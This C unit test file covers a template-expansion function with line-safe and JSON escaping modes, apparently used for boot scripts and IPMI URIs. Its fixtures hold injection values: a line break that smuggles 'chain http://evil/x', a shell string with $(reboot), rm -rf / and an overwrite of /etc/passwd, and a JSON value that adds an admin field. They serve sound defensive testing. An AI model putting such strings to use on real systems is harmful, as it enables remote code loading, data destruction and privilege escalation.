/*
 * Unit tests of <attribute> templates: valid[] expansions, invalid[]
 * templates with their reasons, the length cap and no recursion; values
 * put in line-safe (line_valid[], line_invalid[], every byte) and
 * escaped for JSON (json_valid[]).
 */
#include <string.h>

#include "extern.h"
#include "../tap.h"

#define N64	"abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijkl"

static const char *const attrs[][2] = {
	{ "ipmi_user",	"service" },
	{ "ipmi_pass",	"servicepass" },
	{ "a",		"A" },
	{ "x.y-z_0",	"dotted" },
	{ "empty",	"" },
	{ "loop",	"<loop>" },
	{ "other",	"<a>" },
	{ "lt",		"<" },
	{ N64,		"long" },
	/* Values that try to leave their line, or their JSON string. */
	{ "nl",		"r1\nchain http://evil/x" },
	{ "cr",		"r1\rshell" },
	{ "tab",	"a\tb" },
	{ "del",	"a\x7f" },
	{ "esc",	"\x1b[2J" },
	{ "shebang",	"#!ipxe" },
	{ "shell",	"$(reboot); `id` | rm -rf / && x > /etc/passwd 'q' \"d\" \\" },
	{ "quote",	"al\"pha" },
	{ "inject",	"x\",\"admin\":\"true" },
	{ "bs",		"a\\b" },
	{ "utf8",	"caf\xc3\xa9" },
};

/* The test's attributes; arg counts the calls. */
static const char *
lookup(const char *name, void *arg)
{
	size_t	 i;

	(*(int *)arg)++;
	for (i = 0; i < sizeof(attrs) / sizeof(attrs[0]); i++)
		if (strcmp(attrs[i][0], name) == 0)
			return attrs[i][1];
	return NULL;
}

/* A one-attribute lookup, <one>, whose value is arg. */
static const char *
lookup_one(const char *name, void *arg)
{
	return strcmp(name, "one") == 0 ? arg : NULL;
}

static const struct {
	const char	*tmpl;
	const char	*want;
} valid[] = {
	{ "",				"" },
	{ "plain text",			"plain text" },
	{ "<a>",			"A" },
	{ "<a><a>",			"AA" },
	{ "x<a>y",			"xAy" },
	{ "ipmi://<ipmi_user>:<ipmi_pass>@10.10.1.3/ipmi",
	    "ipmi://service:servicepass@10.10.1.3/ipmi" },
	{ "a<b",			"a<b" },
	{ "a>b",			"a>b" },
	{ "<",				"<" },
	{ ">",				">" },
	{ "<>",				"<>" },
	{ "<<a>>",			"<A>" },
	{ "< a>",			"< a>" },
	{ "<a >",			"<a >" },
	{ "<a b>",			"<a b>" },
	{ "<a",				"<a" },
	{ "<a/b>",			"<a/b>" },
	{ "<x.y-z_0>",			"dotted" },
	{ "[<empty>]",			"[]" },
	{ "<loop>",			"<loop>" },
	{ "<other>",			"<a>" },
	{ "<lt>a>",			"<a>" },
	{ "<" N64 ">",			"long" },
	{ "<" N64 "m>",			"<" N64 "m>" },
	{ "if (a<b && c>d)",		"if (a<b && c>d)" },
	{ "%s%n<a>%x",			"%s%nA%x" },
};

/*
 * TMPL_LINE_SAFE: values free of control characters go in verbatim,
 * whatever they look like; the template's own line breaks are its own.
 */
static const struct {
	const char	*tmpl;
	const char	*want;
} line_valid[] = {
	{ "kernel k rack=<shebang>",	"kernel k rack=#!ipxe" },
	{ "#!ipxe\nkernel k <a>\nboot\n", "#!ipxe\nkernel k A\nboot\n" },
	{ "<other> <loop>",		"<a> <loop>" },
	{ "echo <shell>",
	    "echo $(reboot); `id` | rm -rf / && x > /etc/passwd 'q' \"d\" \\" },
	{ "<quote>",			"al\"pha" },
	{ "<utf8>",			"caf\xc3\xa9" },
	{ "[<empty>]",			"[]" },
};

/*
 * TMPL_LINE_SAFE refusals: the first value holding a control character,
 * tab included (a separator in a command line, and never needed in a
 * value), named without its value.
 */
static const struct {
	const char	*tmpl;
	const char	*reason;
} line_invalid[] = {
	{ "<nl>",		"attribute nl holds a line break" },
	{ "x <cr> y",		"attribute cr holds a line break" },
	{ "<tab>",		"attribute tab holds a control character (0x09)" },
	{ "<del>",		"attribute del holds a control character (0x7f)" },
	{ "<esc>",		"attribute esc holds a control character (0x1b)" },
	{ "<a><nl><cr>",	"attribute nl holds a line break" },
};

/*
 * TMPL_JSON: a value stays inside the JSON string it is put in; without
 * TMPL_LINE_SAFE control characters are escaped, not refused.
 */
static const struct {
	const char	*tmpl;
	const char	*want;
} json_valid[] = {
	{ "{\"h\":\"<quote>\"}",	"{\"h\":\"al\\\"pha\"}" },
	{ "{\"h\":\"<inject>\"}",	"{\"h\":\"x\\\",\\\"admin\\\":\\\"true\"}" },
	{ "\"<bs>\"",		"\"a\\\\b\"" },
	{ "\"<nl>\"",		"\"r1\\u000achain http://evil/x\"" },
	{ "\"<del>\"",		"\"a\\u007f\"" },
	{ "\"<other>\"",		"\"<a>\"" },
	{ "\"<utf8>\"",		"\"caf\xc3\xa9\"" },
	{ "{\"<a>\": 1}",		"{\"A\": 1}" },
};

static const struct {
	const char	*tmpl;
	const char	*reason;
} invalid[] = {
	{ "<nope>",		"Unknown attribute <nope> at position 1" },
	{ "ab<nope>",		"Unknown attribute <nope> at position 3" },
	{ "<a><nope><x>",	"Unknown attribute <nope> at position 4" },
	{ "a<b <c>",		"Unknown attribute <c> at position 5" },
	{ "<<nope>>",		"Unknown attribute <nope> at position 2" },
	{ "<A>",		"Unknown attribute <A> at position 1" },
};

int
main(void)
{
	char	 err[256], big[300], one[3];
	char	*out;
	size_t	 i;
	int	 rc, calls, bad;

	for (i = 0; i < sizeof(valid) / sizeof(valid[0]); i++) {
		calls = 0;
		out = NULL;
		rc = tmpl_expand(valid[i].tmpl, lookup, &calls, 4096, &out,
		    err, sizeof(err));
		if (!is_int(rc, 0, "expand '%s'", valid[i].tmpl))
			diag("%s", err);
		is_str(out, valid[i].want, "'%s' -> '%s'", valid[i].tmpl,
		    valid[i].want);
		free(out);
	}

	for (i = 0; i < sizeof(invalid) / sizeof(invalid[0]); i++) {
		calls = 0;
		out = (char *)1;
		rc = tmpl_expand(invalid[i].tmpl, lookup, &calls, 4096, &out,
		    err, sizeof(err));
		is_int(rc, -1, "'%s' refused", invalid[i].tmpl);
		ok(out == NULL, "... with no output");
		is_str(err, invalid[i].reason, "... because '%s'",
		    invalid[i].reason);
	}

	/* No recursion: one lookup per reference, values never rescanned. */
	calls = 0;
	tmpl_expand("<loop><other><a>", lookup, &calls, 4096, &out, err,
	    sizeof(err));
	is_str(out, "<loop><a>A", "values are inserted verbatim");
	is_int(calls, 3, "... with one lookup per reference");
	free(out);
	calls = 0;
	tmpl_expand("a<b <> <a b> < >", lookup, &calls, 4096, &out, err,
	    sizeof(err));
	is_int(calls, 0, "text '<' never looks anything up");
	free(out);

	/* The cap counts the result, not the template. */
	calls = 0;
	rc = tmpl_expand("<ipmi_pass>", lookup, &calls, 11, &out, err,
	    sizeof(err));
	is_int(rc, 0, "a result of exactly maxlen fits");
	is_str(out, "servicepass", "... whole");
	free(out);
	out = (char *)1;
	rc = tmpl_expand("<ipmi_pass>", lookup, &calls, 10, &out, err,
	    sizeof(err));
	is_int(rc, -1, "one byte over maxlen is refused");
	ok(out == NULL, "... with no output");
	is_str(err, "Expanded template is longer than 10 bytes",
	    "... because it is too long");
	rc = tmpl_expand("abcdef", lookup, &calls, 5, &out, err, sizeof(err));
	is_int(rc, -1, "literal text counts too");
	rc = tmpl_expand("a<b", lookup, &calls, 2, &out, err, sizeof(err));
	is_int(rc, -1, "... and a text '<'");
	rc = tmpl_expand("", lookup, &calls, 0, &out, err, sizeof(err));
	ok(rc == 0 && out != NULL && out[0] == '\0',
	    "an empty result fits maxlen 0");
	free(out);

	/* Growth past the first allocation. */
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	memcpy(big + 100, "<ipmi_user>", 11);
	rc = tmpl_expand(big, lookup, &calls, 4096, &out, err, sizeof(err));
	ok(rc == 0 && strlen(out) == sizeof(big) - 1 - 11 + 7 &&
	    memcmp(out + 100, "service", 7) == 0, "a long template grows");
	free(out);

	for (i = 0; i < nitems(line_valid); i++) {
		rc = tmpl_expand_as(line_valid[i].tmpl, TMPL_LINE_SAFE, lookup,
		    &calls, 4096, &out, err, sizeof(err));
		if (!is_int(rc, 0, "line-safe: expand '%s'", line_valid[i].tmpl))
			diag("%s", err);
		is_str(out, line_valid[i].want, "line-safe: '%s' verbatim",
		    line_valid[i].tmpl);
		free(out);
	}
	for (i = 0; i < nitems(line_invalid); i++) {
		out = (char *)1;
		rc = tmpl_expand_as(line_invalid[i].tmpl, TMPL_LINE_SAFE, lookup,
		    &calls, 4096, &out, err, sizeof(err));
		is_int(rc, TMPL_REFUSED, "line-safe: '%s' refused",
		    line_invalid[i].tmpl);
		ok(out == NULL, "... with no output");
		is_str(err, line_invalid[i].reason, "... because '%s'",
		    line_invalid[i].reason);
	}
	rc = tmpl_expand_as("<nope><nl>", TMPL_LINE_SAFE, lookup, &calls, 4096,
	    &out, err, sizeof(err));
	ok(rc == -1 && strstr(err, "Unknown attribute <nope>") != NULL,
	    "line-safe: an unknown attribute before a refused one is -1");
	rc = tmpl_expand_as("<nl>", 0, lookup, &calls, 4096, &out, err,
	    sizeof(err));
	ok(rc == 0 && strcmp(out, "r1\nchain http://evil/x") == 0,
	    "without TMPL_LINE_SAFE a line break goes in (power URIs)");
	free(out);

	/* Every byte: 0x01-0x1f and 0x7f refused, the rest (UTF-8 too) kept. */
	for (i = 1, bad = 0; i < 256; i++) {
		one[0] = 'v';
		one[1] = (char)i;
		one[2] = '\0';
		rc = tmpl_expand_as("<one>", TMPL_LINE_SAFE, lookup_one, one,
		    4096, &out, err, sizeof(err));
		if (rc != ((i < 0x20 || i == 0x7f) ? TMPL_REFUSED : 0) ||
		    (rc == 0 && strcmp(out, one) != 0)) {
			diag("byte 0x%02zx: rc %d", i, rc);
			bad++;
		}
		if (rc == 0)
			free(out);
	}
	is_int(bad, 0, "line-safe: every byte < 0x20 and 0x7f refused, "
	    "the others kept");

	for (i = 0; i < nitems(json_valid); i++) {
		rc = tmpl_expand_as(json_valid[i].tmpl, TMPL_JSON, lookup,
		    &calls, 4096, &out, err, sizeof(err));
		if (!is_int(rc, 0, "json: expand '%s'", json_valid[i].tmpl))
			diag("%s", err);
		is_str(out, json_valid[i].want, "json: '%s' -> '%s'",
		    json_valid[i].tmpl, json_valid[i].want);
		free(out);
	}
	rc = tmpl_expand_as("\"<nl>\"", TMPL_JSON | TMPL_LINE_SAFE, lookup,
	    &calls, 4096, &out, err, sizeof(err));
	ok(rc == TMPL_REFUSED && strcmp(err, "attribute nl holds a line "
	    "break") == 0, "json and line-safe: a line break is refused");
	rc = tmpl_expand_as("<quote>", TMPL_JSON, lookup, &calls, 6, &out, err,
	    sizeof(err));
	ok(rc == -1 && strstr(err, "longer than 6") != NULL,
	    "json: the escapes count against maxlen");

	/* A small err buffer truncates, still terminated. */
	rc = tmpl_expand("<nope>", lookup, &calls, 4096, &out, err, 8);
	is_str(err, "Unknown", "err is truncated to errsz");

	return done_testing();
}
